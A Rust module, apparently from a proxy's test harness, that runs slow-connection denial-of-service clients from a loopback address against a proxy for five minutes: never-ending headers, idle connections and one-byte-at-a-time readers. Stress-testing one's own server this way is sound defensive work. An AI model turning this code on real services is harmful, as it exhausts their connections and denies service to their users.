//! Clients that hold connections: heads that never end, idle connections, and readers of single bytes.

use std::{
    error::Error,
    io,
    net::{Ipv4Addr, SocketAddr},
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering::Relaxed},
    },
    time::Duration,
};

use tokio::{
    net::{TcpSocket, TcpStream},
    runtime,
    time::sleep,
};

/// All hostile clients connect from it; the polite ones from 127.0.0.1.
const SOURCE: Ipv4Addr = Ipv4Addr::new(127, 9, 9, 9);
/// Between two bytes of one client.
const BYTE_PAUSE: Duration = Duration::from_secs(1);
/// Between two connections of one client.
const RECONNECT_PAUSE: Duration = Duration::from_secs(1);
const RECEIVE_BUFFER_BYTES: u32 = 2_048;
/// An attack ends by itself.
const ATTACK_MAX: Duration = Duration::from_mins(5);

#[derive(Clone, Copy)]
enum Hostility {
    SlowHead,
    Idle,
    SingleBytes,
}

impl Hostility {
    /// The port of its first client. Each client keeps its port: if thousands are in use, the kernel searches for
    /// milliseconds for a free one, and interrupts wait on that core.
    fn first_port(self) -> u16 {
        match self {
            Self::SlowHead => 10_000,
            Self::Idle => 22_000,
            Self::SingleBytes => 34_000,
        }
    }
}

/// Open connections, by kind, and all that were opened.
#[derive(Default)]
struct Counts {
    open: [AtomicU64; 3],
    opened: AtomicU64,
}

/// Attacks a proxy at `address`, and prints once a second: open slow heads, open idle connections, open readers, and all
/// connections so far. Readers request `/large`.
pub fn attack(
    address: SocketAddr,
    slow_heads: usize,
    idle: usize,
    readers: usize,
) -> Result<(), Box<dyn Error>> {
    let runtime = runtime::Builder::new_current_thread().enable_all().build()?;
    runtime.block_on(async {
        let counts = Arc::new(Counts::default());
        let kinds =
            [(Hostility::SlowHead, slow_heads), (Hostility::Idle, idle), (Hostility::SingleBytes, readers)];
        for (hostility, clients) in kinds {
            let ports = hostility.first_port()..;
            for (number, port) in (0..clients).zip(ports) {
                let counts = Arc::clone(&counts);
                tokio::spawn(async move {
                    // Two thousand connections a second: a listener's queue takes no more of them at once.
                    sleep(Duration::from_micros(500) * u32::try_from(number).unwrap_or(u32::MAX)).await;
                    loop {
                        let _ = hold(address, hostility, port, &counts).await;
                        sleep(RECONNECT_PAUSE).await;
                    }
                });
            }
        }
        for _ in 0..ATTACK_MAX.as_secs() {
            sleep(Duration::from_secs(1)).await;
            let [heads, idle, readers] = counts.open.each_ref().map(|count| count.load(Relaxed));
            println!("{heads} {idle} {readers} {}", counts.opened.load(Relaxed));
        }
    });
    Ok(())
}

/// Holds one connection until the proxy closes it.
async fn hold(address: SocketAddr, hostility: Hostility, port: u16, counts: &Counts) -> io::Result<()> {
    let socket = TcpSocket::new_v4()?;
    socket.set_recv_buffer_size(RECEIVE_BUFFER_BYTES)?;
    socket.set_reuseaddr(true)?;
    socket.bind((SOURCE, port).into())?;
    let tcp = socket.connect(address).await?;
    counts.opened.fetch_add(1, Relaxed);
    let open = &counts.open[hostility as usize];
    open.fetch_add(1, Relaxed);
    let ended = match hostility {
        Hostility::SlowHead => send_head(&tcp).await,
        Hostility::Idle => wait_for_end(&tcp).await,
        Hostility::SingleBytes => read_single_bytes(&tcp).await,
    };
    open.fetch_sub(1, Relaxed);
    ended
}

async fn send_head(tcp: &TcpStream) -> io::Result<()> {
    write(tcp, b"GET / HTTP/1.1\r\nHost: a\r\nX: ").await?;
    loop {
        sleep(BYTE_PAUSE).await;
        write(tcp, b"x").await?;
    }
}

async fn write(tcp: &TcpStream, bytes: &[u8]) -> io::Result<()> {
    tcp.writable().await?;
    tcp.try_write(bytes).map(drop)
}

async fn wait_for_end(tcp: &TcpStream) -> io::Result<()> {
    loop {
        tcp.readable().await?;
        match tcp.try_read(&mut [0; 512]) {
            Ok(0) => return Ok(()),
            Err(error) if error.kind() != io::ErrorKind::WouldBlock => return Err(error),
            _ => {}
        }
    }
}

async fn read_single_bytes(tcp: &TcpStream) -> io::Result<()> {
    write(tcp, b"GET /large HTTP/1.1\r\nHost: a\r\n\r\n").await?;
    loop {
        tcp.readable().await?;
        match tcp.try_read(&mut [0; 1]) {
            Ok(0) => return Ok(()),
            Err(error) if error.kind() != io::ErrorKind::WouldBlock => return Err(error),
            _ => sleep(BYTE_PAUSE).await,
        }
    }
}
